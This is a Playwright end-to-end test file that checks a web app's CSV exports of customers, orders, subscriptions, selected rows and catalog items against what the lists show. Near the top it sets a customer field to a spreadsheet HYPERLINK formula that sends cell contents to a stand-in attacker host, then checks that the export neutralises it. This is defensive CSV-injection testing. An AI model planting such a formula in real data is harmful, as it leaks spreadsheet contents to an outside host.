import { expectAccessible } from "../accessible";
import { fillCustomer, someCustomer } from "../customers";
import { expect, signIn, test } from "../fixtures";
import { countOf, csvOf, everyRow, pressRefresh, rowsIn } from "../lists";

test("a CSV holds exactly what the list shows, in its order and columns, and no formula", {
  tag: "@lists",
}, async ({ page }) => {
  await signIn(page, "admin");
  const customer = someCustomer();
  customer.organization = `=HYPERLINK("https://evil.example?x="&A1,"${customer.word}")`;

  await test.step("a customer made a moment ago is in the list at once, without any pass", async () => {
    await page.goto("/customers/new");
    await fillCustomer(page, customer);
    await page.getByRole("button", { name: "Create customer" }).click();
    await expect(page.getByRole("heading", { name: "is a customer now" })).toBeVisible();
    page.once("dialog", (dialog) => dialog.accept());
    await page.goto(`/customers?q=${customer.word}`);
    await expect(rowsIn(page, "Customers")).toHaveText([customer.organization]);
    await expect.poll(() => countOf(page)).toBe(1);
  });

  await test.step("what a spreadsheet would run is text there", async () => {
    const { lines, promised } = await csvOf(page);
    expect(promised).toBe(1);
    expect(lines).toHaveLength(1);
    expect(lines[0]?.[0]).toBe(`'${customer.organization}`);
    expect(lines.flat().filter((cell) => /^[=+@]/.test(cell))).toEqual([]);
  });

  await test.step("customers: filtered and sorted, the lines are the rows, as many as the button says", async () => {
    await page.goto("/customers?status=active&sort=-created");
    await expect(rowsIn(page, "Customers").first()).toBeVisible();
    await page.getByRole("button", { name: "Table options" }).click();
    await page.getByRole("checkbox", { name: "Ion id" }).check();
    await page.getByRole("checkbox", { name: "Contact" }).uncheck();
    await page.keyboard.press("Escape");
    await expect(page.getByRole("columnheader", { name: "Ion id" })).toBeVisible();
    const shown = await everyRow(page, "Customers");
    const headers = (await page.getByRole("columnheader").allTextContents()).filter(Boolean);
    const { names, lines, promised } = await csvOf(page);
    expect(names).toEqual(headers);
    expect(promised).toBe(shown.length);
    const id = names.indexOf("Ion id");
    expect(lines.map((line) => `/customers/${line[id]}`)).toEqual(shown);
    await page.getByRole("button", { name: "Table options" }).click();
    await page.getByRole("button", { name: "Standard columns" }).click();
    await expectAccessible(page, "columns");
    await page.keyboard.press("Escape");
  });

  await test.step("orders and subscriptions: likewise", async () => {
    await page.goto("/orders?kind=new&sort=-total");
    await expect(rowsIn(page, "Orders").first()).toBeVisible();
    // A pass of its own between list and file could find what earlier stories have ordered elsewhere.
    await pressRefresh(page);
    const orders = await everyRow(page, "Orders");
    const file = await csvOf(page);
    expect(file.promised).toBe(orders.length);
    expect(file.lines.map(([id]) => id)).toEqual(orders.map((href) => href.split("/").at(-1)));

    await page.goto("/subscriptions?status=active&sort=-seats");
    await expect(rowsIn(page, "Subscriptions").first()).toBeVisible();
    await pressRefresh(page);
    const shown = await everyRow(page, "Subscriptions");
    const subscriptions = await csvOf(page);
    expect(subscriptions.promised).toBe(shown.length);
    expect(subscriptions.lines).toHaveLength(shown.length);
    const seats = subscriptions.names.findIndex((name) => name.startsWith("Seats"));
    const numbers = subscriptions.lines.map((line) => Number(line[seats])).filter((seat) => seat > 0);
    expect(numbers).toEqual([...numbers].sort((a, b) => b - a));
  });

  await test.step("a selection: its rows and no others", async () => {
    await page.goto("/orders");
    await expect(rowsIn(page, "Orders").first()).toBeVisible();
    const boxes = page.getByRole("checkbox", { name: /^Select Order / });
    const labels: string[] = [];
    for (const place of [0, 2, 3]) {
      await boxes.nth(place).check();
      labels.push(((await boxes.nth(place).getAttribute("aria-label")) ?? "").replace("Select Order ", ""));
    }
    const bar = page.getByRole("region", { name: "Selection" });
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      bar.getByRole("link", { name: "CSV · 3 rows" }).click(),
    ]);
    const chunks: Buffer[] = [];
    for await (const chunk of await download.createReadStream()) chunks.push(Buffer.from(chunk));
    const text = Buffer.concat(chunks).toString("utf8");
    for (const id of labels) expect(text).toContain(`${id},`);
    expect(text.trim().split("\r\n")).toHaveLength(4);
    await expectAccessible(page, "selection");
  });

  await test.step("the catalog: one line a plan that matches", async () => {
    await page.goto("/catalog?q=exchange");
    await expect(page.getByRole("list", { name: "Products" }).getByRole("listitem").first()).toBeVisible();
    const { lines, promised, names } = await csvOf(page);
    expect(lines).toHaveLength(promised);
    expect(names).toContain("Part number");
    expect(lines.some((line) => line.includes("CFQ7TTC0LH16:0001:P1M:M"))).toBe(true);
  });
});
